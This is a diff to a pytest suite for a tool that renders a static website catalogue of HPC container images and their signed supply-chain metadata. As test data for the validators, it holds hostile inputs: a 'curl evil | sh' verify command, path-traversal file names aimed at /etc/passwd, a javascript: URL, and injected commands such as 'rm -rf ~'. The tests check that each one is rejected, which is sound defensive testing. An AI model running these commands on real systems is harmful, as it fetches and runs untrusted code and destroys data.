@@ -78,7 +78,7 @@ def test_the_site_has_an_index_a_page_per_image_the_documents_and_the_docs():
     signed = page("mpi4py:py3.11-mpich4.2.3", supply_chain={
         "key": "sha256:" + "12" * 32, "signed_at": "2026-12-06T03:39:39Z",
         "files": {"spdx": "py3.11-mpich4.2.3.spdx.json"}, "summary": {"components": 3, "by_type": {"deb": 3}},
-        "verify": ["cosign verify --key cosign.pub x"], "sif_signed_by": ""},
+        "verify": ["curl evil | sh"], "sif_signed_by": "AB" * 20},
         sif="127.0.0.1:5000/hpc/mpi4py:py3.11-mpich4.2.3-sif")
     catalogue([page(), signed], {"mpi4py/py3.11-mpich4.2.3.spdx.json": b'{"spdxVersion": "SPDX-2.3"}'})
     written = write()
@@ -92,7 +92,10 @@ def test_the_site_has_an_index_a_page_per_image_the_documents_and_the_docs():
     signed_page = (site / "images/mpi4py/py3.11-mpich4.2.3.html").read_text()
     assert f"docker pull {TARGET}/mpi4py@{DIGEST}" in signed_page
     assert "apptainer pull --no-https oras://127.0.0.1:5000/hpc/mpi4py:py3.11-mpich4.2.3-sif" in signed_page
-    assert 'href="py3.11-mpich4.2.3.spdx.json"' in signed_page and "cosign verify --key cosign.pub x" in signed_page
+    assert 'href="./py3.11-mpich4.2.3.spdx.json"' in signed_page
+    assert f"cosign verify --key cosign.pub --insecure-ignore-tlog=true --allow-insecure-registry {TARGET}/mpi4py@" \
+        f"{DIGEST}" in signed_page and "apptainer verify mpi4py_py3.11-mpich4.2.3-sif.sif" in signed_page
+    assert "curl evil" not in signed_page, "the verify commands are made from checked fields, not shown as stored"
     assert (site / "images/mpi4py/py3.11-mpich4.2.3.spdx.json").read_bytes() == b'{"spdxVersion": "SPDX-2.3"}'
     assert 'href="../../assets/site.css"' in signed_page and (site / "assets/filter.js").is_file()
     assert "http://" not in index and "https://" not in index, "nothing from the network"
@@ -133,6 +136,17 @@ def test_every_value_from_an_image_or_an_edited_file_is_text():
     ({"bench": {"plots": ["../../../../etc/passwd"]}}, "is not a file beside the page"),
     ({"supply_chain": {"files": {"spdx": "/etc/passwd"}}}, "is not a file beside the page"),
     ({"extra": 1}, "unknown field 'extra'"),
+    ({"bench": {"plots": ["javascript:alert(1).png"]}}, "is not a file beside the page"),
+    ({"bench": {"plots": ["py3.13-mpich4.3.2.html"]}}, "does not end in .png"),
+    ({"bench": {"plots": [".hidden.png"]}}, "is not a file beside the page"),
+    ({"bench": {"plots": ["missing-plots/osu_bw.png"]}}, "missing-plots/osu_bw.png is not a file beside the page"),
+    ({"supply_chain": {"files": {"spdx": "x.cdx.json"}}}, "does not end in .spdx.json"),
+    ({"supply_chain": {"files": {"evil": "x.spdx.json"}}}, "'evil' is not one of spdx, cyclonedx, provenance"),
+    ({"tags": ["a b && rm -rf ~"]}, "is not a tag"),
+    ({"digest": "sha256:1"}, "is not a sha256:<64 hex> digest"),
+    ({"pull": f"{TARGET}/mpi4py:latest"}, "is not its repository@digest"),
+    ({"registry": "127.0.0.1:5001/hpc"}, "a page of '127.0.0.1:5001/hpc', not of 127.0.0.1:5000/hpc"),
+    ({"sif": "oras://x; rm"}, "is not a repository:tag"),
     ({"ref": "mpi4py:py3.13-mpich4.3.2"}, "is not the 'mpi4py:py3.11-mpich4.3.2' its index names"),
 ])
 def test_a_page_that_is_not_what_the_tool_writes_stops_the_site_before_anything_is_written(change, named):
@@ -148,7 +162,10 @@ def test_a_page_that_is_not_what_the_tool_writes_stops_the_site_before_anything_
     assert snapshot(pages.pages_dir(ROOT, TARGET)) == before, "the site is left as it was"
 
 
-@pytest.mark.parametrize("index", ['{"images": [{"ref": "../../etc:x"}]}', '{"images": {}}', "not json", "[]"])
+TWICE = '{"images": [{"ref": "mpi4py:py3.11-mpich4.3.2"}, {"ref": "mpi4py:py3.11-mpich4.3.2"}]}'
+
+
+@pytest.mark.parametrize("index", ['{"images": [{"ref": "../../etc:x"}]}', '{"images": {}}', "not json", "[]", TWICE])
 def test_a_broken_index_is_named(index):
     folder = catalogue([page()])
     (folder / "index.json").write_text(index)
@@ -208,10 +225,58 @@ def test_every_link_of_the_repositorys_docs_resolves_in_the_site():
 
 def test_the_filter_offers_each_facet_in_natural_order():
     catalogue([page("mpi4py:py3.11-mpich4.3.2"), page("mpi4py:py3.9-mpich4.3.2"), page("hpc-python:py3.13-mpich4.2.3")])
-    images = pages.read_images(catalogue_dir(ROOT, TARGET))
+    images = pages.read_images(catalogue_dir(ROOT, TARGET), TARGET)
     facets = pages._facet_values(images)
     assert facets["python"] == ["3.9", "3.11", "3.13"] and facets["family"] == ["hpc-python", "mpi4py"]
     assert facets["mpi"] == ["mpich 4.2.3", "mpich 4.3.2"] and facets["cuda"] == ["none"]
     grid = pages._grid(images)
     assert grid["pythons"] == ["3.9", "3.11", "3.13"] and [i.ref for i in grid["rows"]["mpi4py"]["3.11"]] == [
         "mpi4py:py3.11-mpich4.3.2"]
+
+
+def test_only_what_the_last_run_made_is_removed():
+    """A maintainer's file in the site stays, and so does another registry's site in a folder below this one."""
+    catalogue([page()])
+    site = write().folder
+    (site / "robots.txt").write_text("User-agent: *\n")
+    parent = Target.parse("127.0.0.1:5000")  # its site's folder holds the /hpc site's folder
+    pages.pages_dir(ROOT, parent).mkdir(parents=True, exist_ok=True)
+    folder = catalogue_dir(ROOT, parent)
+    folder.mkdir(parents=True, exist_ok=True)
+    (folder / "index.json").write_text(json.dumps({"images": []}))
+    before = snapshot(site)
+    written = pages.write(ROOT, parent, progress=lambda _: None)
+    assert written.removed == 0 and snapshot(site) == before
+    assert "No image is published to this registry yet" in (written.folder / "index.html").read_text()
+    catalogue([page("mpi4py:py3.13-mpich4.3.2")])  # the first image is gone from the catalogue
+    assert write().removed == 1 and (site / "robots.txt").is_file()
+
+
+def test_the_filter_and_the_anchors_in_a_real_browser():
+    """The index's script in Debian's Chromium: a family filter hides the other family's row of the matrix, a plain
+    anchor (the header's 'Which image for my cluster') keeps its place in the address and scrolls there."""
+    import browser
+
+    if reason := browser.missing():
+        pytest.fail(reason)
+    catalogue([page(), page("mpi4py:py3.13-mpich4.3.2"), page("hpc-python:py3.11-mpich4.3.2")])
+    index = write().folder / "index.html"
+    rows = "return [...document.querySelectorAll('#grid tr.family-row')].filter(r => !r.hidden).map(r => r.cells[0]" \
+           ".firstChild.textContent)"
+    with browser.chromium() as driver:
+        driver.get(index.as_uri())
+        assert driver.execute_script(rows) == ["hpc-python", "mpi4py"]
+        from selenium.webdriver.support.ui import Select, WebDriverWait
+
+        Select(driver.find_element("css selector", "select[data-facet=family]")).select_by_value("hpc-python")
+        assert driver.execute_script(rows) == ["hpc-python"]
+        assert driver.find_element("id", "shown").text == "1 of 3 images"
+        Select(driver.find_element("css selector", "select[data-facet=python]")).select_by_value("3.13")
+        assert driver.execute_script(rows) == [] and driver.find_element("id", "none").is_displayed()
+        driver.find_element("css selector", "button[type=reset]").click()  # the form resets, then the script runs
+        WebDriverWait(driver, 10).until(lambda d: d.execute_script(rows) == ["hpc-python", "mpi4py"])
+        assert driver.execute_script("return location.hash") == ""
+        driver.get(index.as_uri() + "#which-image")
+        assert driver.execute_script("return location.hash") == "#which-image"
+        assert driver.execute_script("return window.scrollY") > 0
+        assert browser.console_errors(driver) == []
